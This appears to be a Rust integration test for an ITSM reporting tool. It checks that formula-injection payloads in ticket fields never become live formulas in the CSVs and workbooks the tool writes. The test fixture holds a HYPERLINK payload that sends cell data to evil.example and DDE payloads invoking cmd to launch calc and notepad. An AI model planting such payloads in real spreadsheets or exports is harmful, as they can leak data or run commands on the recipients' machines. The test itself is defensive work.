//! Issue 18 item 6, formula injection: ticket text starting with `=`, `+`, `-`, `@`, a tab
//! or a carriage return, in every text field (title, customer, team, category, service,
//! ci, requester, agent, vendor), never becomes a live formula in any CSV or workbook the
//! tool writes. Every writer runs on one hostile fixture; CSVs are read back with the `csv`
//! crate, workbooks with calamine (cell types, and `worksheet_formula` holds only the
//! tool's own SUM/difference formulas). Writes the "injection" section of
//! docs/reliability.md. Also [`hostile_demo`], the fixture the XSS test shares.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use calamine::{open_workbook_auto, Data, Reader};

use super::doc;
use crate::{itsm_ok, Tmp};

/// Text for each field of the hostile fixture. `customer`, `team` and `service` also go
/// into the `;`-separated portfolio and price list and into itsm.toml, so they hold no
/// `;`, `|`, `"` or line break.
pub(super) struct Payloads {
    pub title: &'static str,
    pub customer: &'static str,
    pub team: &'static str,
    pub category: &'static str,
    pub service: &'static str,
    pub ci: &'static str,
    pub requester: &'static str,
    pub agent: &'static str,
    pub vendor: &'static str,
}

impl Payloads {
    /// (field, payload) pairs.
    pub fn fields(&self) -> Vec<(&'static str, &'static str)> {
        vec![
            ("title", self.title),
            ("customer", self.customer),
            ("team", self.team),
            ("category", self.category),
            ("service", self.service),
            ("ci", self.ci),
            ("requester", self.requester),
            ("agent", self.agent),
            ("vendor", self.vendor),
        ]
    }
}

/// A TOML basic string of `s`.
fn toml_string(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            '\n' => out.push_str("\\n"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// `itsm demo`'s project (tickets, history, itsm.toml, price list, portfolio) with the
/// payloads in place of real values, consistently in every file so the reports still have
/// rows to show: customer Kävlinge, team Infrastructure, service Behörigheter, vendor
/// ERP-leverantören are renamed everywhere; in the tickets every second ci, third title,
/// fifth requester and seventh category, and every fourth history agent. Ingested and built in `TMP/d`.
pub(super) fn hostile_demo(name: &str, p: &Payloads) -> Tmp {
    let t = Tmp::new(name);
    itsm_ok(&t.0, &["demo", "--dir", "d", "--quiet"]);
    let d = t.path("d");
    let _ = std::fs::remove_file(d.join("itsm.duckdb"));
    let _ = std::fs::remove_dir_all(d.join("reports"));

    let rewrite_csv = |file: &Path, edit: &dyn Fn(usize, &str, &str) -> Option<String>| {
        let mut reader = csv::Reader::from_path(file).unwrap();
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(&header).unwrap();
        for (i, rec) in reader.records().enumerate() {
            let rec = rec.unwrap();
            let cells: Vec<String> =
                header.iter().zip(rec.iter()).map(|(h, v)| edit(i, h, v).unwrap_or_else(|| v.to_string())).collect();
            writer.write_record(&cells).unwrap();
        }
        std::fs::write(file, writer.into_inner().unwrap()).unwrap();
    };
    rewrite_csv(&d.join("export/tickets.csv"), &|i, h, v| match (h, v) {
        ("customer", "Kävlinge") => Some(p.customer.into()),
        ("first_team" | "resolved_by_team" | "assigned_team", "Infrastructure") => Some(p.team.into()),
        ("service", "Behörigheter") => Some(p.service.into()),
        ("category", _) if i % 7 == 3 => Some(p.category.into()),
        // Unlinked to a problem, so their repeat key (ci | category) is a problem candidate
        // the monthly page lists.
        ("problem_id", _) if i % 7 == 3 => Some(String::new()),
        ("ci", _) if i % 2 == 0 => Some(p.ci.into()),
        ("title", _) if i % 3 == 0 => Some(p.title.into()),
        ("requester", _) if i % 5 == 0 => Some(p.requester.into()),
        _ => None,
    });
    rewrite_csv(&d.join("export/history.csv"), &|i, h, v| match (h, v) {
        ("value", "Infrastructure") => Some(p.team.into()),
        ("agent", _) if i % 4 == 0 && !v.is_empty() => Some(p.agent.into()),
        _ => None,
    });
    let plain = [("Kävlinge", p.customer), ("Infrastructure", p.team), ("Behörigheter", p.service)];
    for file in ["portfolio.csv", "price-list.csv"] {
        let mut text = std::fs::read_to_string(d.join(file)).unwrap();
        for (from, to) in plain {
            text = text.replace(from, to);
        }
        std::fs::write(d.join(file), text).unwrap();
    }
    let mut toml = std::fs::read_to_string(d.join("itsm.toml")).unwrap();
    for (from, to) in plain.iter().chain([("ERP-leverantören", p.vendor)].iter()) {
        toml = toml.replace(&format!("\"{from}\""), &toml_string(to));
    }
    std::fs::write(d.join("itsm.toml"), toml).unwrap();

    itsm_ok(&d, &["ingest", "export/tickets.csv", "export/history.csv", "--source", "sample", "--profile", "generic"]);
    itsm_ok(&d, &["build"]);
    t
}

/// The formula payloads (OWASP CSV injection: `=`, `+`, `-`, `@`, tab, carriage return).
pub(super) const FORMULAS: Payloads = Payloads {
    title: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    customer: "=1+2+Kund",
    team: "@SUM(1+1)*Team",
    category: "-2+3+cmd|' /C calc'!A0",
    service: "+SUM(4)Tjänst",
    ci: "\t=CI()",
    requester: "\r=cmd|' /C notepad'!A0",
    agent: "-1-1+Agent",
    vendor: "=VENDOR()+1",
};

/// Whether a cell as written would be read by a spreadsheet as a formula: it starts with
/// `=`, `+`, `-`, `@`, tab or carriage return and is not a plain number.
fn live(cell: &str) -> bool {
    let number = {
        let t = cell.trim();
        !t.is_empty()
            && t.bytes().all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b))
            && t.bytes().any(|b| b.is_ascii_digit())
            && t.parse::<f64>().is_ok()
    };
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
}

/// A formula the tool writes itself: `SUM(B2:B9)`, `ROWS(A2:A9)`, cells added or subtracted
/// (`B4-B5`, `D5+D7`), or `0`.
fn own_formula(f: &str) -> bool {
    let f = f.trim_start_matches('=');
    let cell = |s: &str| {
        let s = s.replace('$', "");
        let letters = s.bytes().take_while(u8::is_ascii_uppercase).count();
        letters > 0 && s.len() > letters && s[letters..].bytes().all(|b| b.is_ascii_digit())
    };
    let sum = |s: &str| {
        ["SUM(", "ROWS("]
            .iter()
            .find_map(|f| s.strip_prefix(f))
            .and_then(|r| r.strip_suffix(')'))
            .is_some_and(|r| r.split_once(':').is_some_and(|(a, b)| cell(a) && cell(b)))
    };
    f == "0" || f.split(['+', '-']).all(|term| cell(term) || sum(term))
}

/// One output's outcome: the payloads (by field) found in it, all of them inert.
#[derive(Default)]
struct Outcome {
    cells: usize,
    fields: BTreeSet<&'static str>,
}

/// Reads a CSV the tool wrote: no cell is live; which payloads reached it (as `'payload`).
fn check_csv(path: &Path, p: &Payloads) -> Outcome {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let mut out = Outcome::default();
    for rec in reader.records() {
        let rec = rec.unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        for cell in rec.iter() {
            out.cells += 1;
            assert!(!live(cell), "{}: a live formula {cell:?}", path.display());
            for (field, payload) in p.fields() {
                let payload = payload.trim();
                if cell.contains(payload) {
                    assert!(
                        cell.starts_with('\'') || !cell.starts_with(payload),
                        "{}: {field} payload written bare: {cell:?}",
                        path.display()
                    );
                    out.fields.insert(field);
                }
            }
        }
    }
    out
}

/// Reads a workbook the tool wrote: every formula is the tool's own; a cell holding a
/// payload is a string cell.
fn check_xlsx(path: &Path, p: &Payloads) -> Outcome {
    let mut wb = open_workbook_auto(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let mut out = Outcome::default();
    for sheet in wb.sheet_names().to_vec() {
        let formulas = wb.worksheet_formula(&sheet).unwrap();
        for f in formulas.used_cells().map(|(_, _, f)| f).filter(|f| !f.is_empty()) {
            assert!(own_formula(f), "{} sheet {sheet}: a formula the tool did not make: {f:?}", path.display());
        }
        let range = wb.worksheet_range(&sheet).unwrap();
        for (_, _, cell) in range.used_cells() {
            out.cells += 1;
            let text = cell.to_string();
            for (field, payload) in p.fields() {
                if text.contains(payload.trim()) {
                    assert!(
                        matches!(cell, Data::String(_)),
                        "{} sheet {sheet}: {field} payload as {cell:?}",
                        path.display()
                    );
                    out.fields.insert(field);
                }
            }
        }
    }
    out
}

#[test]
fn reliability_injection_no_ticket_text_becomes_a_live_formula_in_any_csv_or_workbook() {
    let p = &FORMULAS;
    let t = hostile_demo("injection", p);
    let d = t.path("d");
    // The payloads reached the database as written (not trimmed or refused), so the
    // outputs below are tried with them.
    let db = d.join("itsm.duckdb");
    // Ingest trims cells, so the tab and carriage-return payloads are stored from their `=`
    // on: still formulas, and found in the outputs by their trimmed text.
    let stored = crate::rows(&db, "SELECT count(*) FROM ticket WHERE customer = '=1+2+Kund'");
    assert_ne!(stored, "0", "the customer payload is stored");
    let ci = crate::rows(&db, "SELECT DISTINCT ci FROM ticket WHERE ci LIKE '%=CI()'");
    assert_eq!(ci, "=CI()", "the ci payload, trimmed");

    // Every writer of a CSV or workbook.
    let runs: &[&[&str]] = &[
        &["report", "billing", "--month", "2026-10", "--out", "o/billing"],
        &["report", "billing", "--month", "2026-10", "--out", "o/billing-personal", "--show-personal-data"],
        &["report", "cab", "--out", "o/cab"],
        &["report", "vendors", "--month", "2026-10", "--out", "o/vendors"],
        &["report", "dispatch", "--format", "csv", "--out", "o/dispatch"],
        &["report", "dispatch", "--backtest", "--from", "2026-06", "--to", "2026-09", "--out", "o/backtest"],
        &["export", "--format", "csv", "--out", "o/export-csv", "--show-personal-data"],
        &["export", "--format", "xlsx", "--out", "o/export-xlsx", "--show-personal-data"],
    ];
    for args in runs {
        itsm_ok(&d, args);
    }
    // Standard-output CSV: itsm query and itsm report major.
    let query = itsm_ok(&d, &["query", "SELECT * FROM ticket", "--format", "csv"]);
    std::fs::write(d.join("o/query.csv"), query).unwrap();
    let major = itsm_ok(&d, &["report", "major", "--month", "2026-10", "--format", "csv"]);
    std::fs::write(d.join("o/major.csv"), major).unwrap();

    let mut results: BTreeMap<String, Outcome> = BTreeMap::new();
    let mut files = Vec::new();
    let mut stack = vec![d.join("o")];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(dir).unwrap() {
            let path = e.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                files.push(path);
            }
        }
    }
    files.sort();
    let (mut csvs, mut books) = (0, 0);
    for path in &files {
        let rel = path.strip_prefix(d.join("o")).unwrap().display().to_string();
        let outcome = match path.extension().and_then(|e| e.to_str()) {
            Some("csv") => {
                csvs += 1;
                check_csv(path, p)
            }
            Some("xlsx") => {
                books += 1;
                check_xlsx(path, p)
            }
            _ => continue,
        };
        // The export's one file per table is summarised as one row below.
        let key = if rel.starts_with("export-csv/") { "export-csv/*.csv (every table)".to_string() } else { rel };
        let entry = results.entry(key).or_default();
        entry.cells += outcome.cells;
        entry.fields.extend(outcome.fields);
    }
    for must in
        ["billing/billing.csv", "billing/billing.xlsx", "cab/cab.csv", "vendors/vendors.csv", "vendors/vendors.xlsx"]
    {
        assert!(results.contains_key(must), "{must} was not written: {:?}", results.keys());
    }
    // Each payload reached at least one output (so each was tried), and the big ones all.
    let reached: BTreeSet<&str> = results.values().flat_map(|o| o.fields.iter().copied()).collect();
    for (field, _) in p.fields() {
        assert!(reached.contains(field), "the {field} payload reached no CSV or workbook: {reached:?}");
    }
    let export = &results["export-csv/*.csv (every table)"];
    for field in ["title", "customer", "team", "category", "service", "ci", "requester", "agent"] {
        assert!(export.fields.contains(field), "export csv lacks {field}");
    }

    let mut body = format!(
        "Formula payloads (OWASP CSV injection) in every ticket text field, run through every writer \
         of a CSV or workbook: {csvs} CSV files and {books} workbooks, {} cells read back. CSV cells \
         are read with the `csv` crate and must not start with `=`, `+`, `-`, `@`, tab or carriage \
         return unless they are a plain number (the tool writes such text with a leading `'`); \
         workbooks are read with calamine: a payload is a string cell, and every formula is one the \
         tool made (`SUM(…)` totals, the reconciliation difference).\n\n\
         Payloads: {}. Ingest trims cells, so the tab and carriage-return payloads reach the \
         outputs from their `=` on (still formulas); the writers' guard for a leading tab or \
         carriage return itself is unit-tested (`csv_fields_are_quoted_and_never_formulas`).\n\n\
         | output | payloads found in it (field) | outcome |\n| --- | --- | --- |\n",
        results.values().map(|o| o.cells).sum::<usize>(),
        p.fields()
            .iter()
            .map(|(f, v)| format!("{f} `{}`", v.replace('\t', "\\t").replace('\r', "\\r")))
            .collect::<Vec<_>>()
            .join(", ")
    );
    for (output, o) in &results {
        let fields: Vec<&str> = o.fields.iter().copied().collect();
        let shown = if fields.is_empty() { "none (no ticket text in it)".to_string() } else { fields.join(", ") };
        body.push_str(&format!("| `{output}` | {shown} | {} cells, no live formula |\n", o.cells));
    }
    doc::section("injection", &body);
}

#[test]
fn reliability_injection_classifier_knows_numbers_from_formulas() {
    assert!(live("=1+2") && live("+SUM(1)") && live("-2+3") && live("@A1") && live("\t=1") && live("\r=1"));
    assert!(live("-inf") && live("+NaN"), "Excel reads these as formulas (#NAME?)");
    assert!(!live("-2") && !live("+1.5") && !live("1e5") && !live("'=1+2") && !live("Kund"));
    assert!(own_formula("SUM(B2:B9)") && own_formula("B4-B5") && own_formula("D5+D7") && own_formula("0"));
    assert!(own_formula("ROWS(A2:A7)"));
    assert!(!own_formula("HYPERLINK(\"http://evil.example\")") && !own_formula("1+2") && !own_formula("SUM(1+1)"));
}
